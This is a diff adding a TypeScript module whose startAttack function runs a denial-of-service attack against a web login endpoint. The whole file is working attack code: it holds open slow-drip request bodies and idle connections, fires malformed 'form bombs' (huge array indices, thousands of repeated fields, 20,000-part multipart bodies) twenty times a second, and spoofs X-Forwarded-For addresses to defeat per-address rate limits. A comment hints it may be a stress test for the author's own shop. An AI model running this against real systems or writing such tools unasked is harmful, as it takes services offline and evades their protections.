@@ -1,0 +1,73 @@
+import { randomInt } from 'node:crypto'
+import { connect, type Socket } from 'node:net'
+
+/** An attack that goes on until it is stopped. */
+export interface Attack {
+  /** Connections open now, and bombs sent so far. */
+  seen: () => { slow: number; idle: number; bombs: number }
+  stop: () => void
+}
+
+const SLOW_BODIES = 64
+const SLOW_EVERY = 2_000
+const BOMBS_A_SECOND = 20
+const IDLE = 200
+
+const PARTS = Array.from(
+  { length: 20_000 },
+  (_, place) => `--b\r\nContent-Disposition: form-data; name="k${place}"\r\n\r\nv\r\n`,
+)
+/** Bodies that a form library might take seriously. */
+const BOMBS: [type: string, body: string][] = [
+  ['application/x-www-form-urlencoded', 'a[99999999]=1'],
+  ['application/x-www-form-urlencoded', 'a[4999999]=1'],
+  ['application/x-www-form-urlencoded', 'x[0]=1&'.repeat(5_000)],
+  ['application/x-www-form-urlencoded', `${'a.'.repeat(8_000)}b=1`],
+  ['multipart/form-data; boundary=b', `${PARTS.join('')}--b--\r\n`],
+]
+
+/**
+ * Keeps 64 slow bodies (a byte every two seconds) and 200 idle connections open and sends 20 form bombs a second, each
+ * from an address of its own, so that no limit by address helps.
+ */
+export function startAttack(url: string): Attack {
+  const { hostname, port, host } = new URL(url)
+  const open = { slow: new Set<Socket>(), idle: new Set<Socket>() }
+  let bombs = 0
+  const dial = (among?: Set<Socket>) => {
+    const socket = connect(Number(port), hostname)
+    among?.add(socket)
+    socket.on('error', () => socket.destroy())
+    socket.on('close', () => among?.delete(socket))
+    socket.resume()
+    return socket
+  }
+  const head = (type: string, length: number) =>
+    `POST /login HTTP/1.1\r\nHost: ${host}\r\nOrigin: ${url}\r\nX-Forwarded-For: 10.${randomInt(256)}.${randomInt(256)}.${randomInt(256)}\r\nContent-Type: ${type}\r\nContent-Length: ${length}\r\n\r\n`
+  // What the shop cuts off comes back.
+  const refill = () => {
+    while (open.slow.size < SLOW_BODIES) dial(open.slow).write(head('application/x-www-form-urlencoded', 5_000))
+    while (open.idle.size < IDLE) dial(open.idle)
+  }
+  refill()
+  const timers = [
+    setInterval(refill, 200),
+    setInterval(() => {
+      for (const socket of open.slow) socket.write('a')
+    }, SLOW_EVERY),
+    setInterval(() => {
+      const [type, body] = BOMBS[bombs % BOMBS.length] ?? ['', '']
+      bombs += 1
+      const socket = dial()
+      socket.setTimeout(10_000, () => socket.destroy())
+      socket.write(head(type, body.length) + body)
+    }, 1_000 / BOMBS_A_SECOND),
+  ]
+  return {
+    seen: () => ({ slow: open.slow.size, idle: open.idle.size, bombs }),
+    stop() {
+      for (const timer of timers) clearInterval(timer)
+      for (const socket of [...open.slow, ...open.idle]) socket.destroy()
+    },
+  }
+}
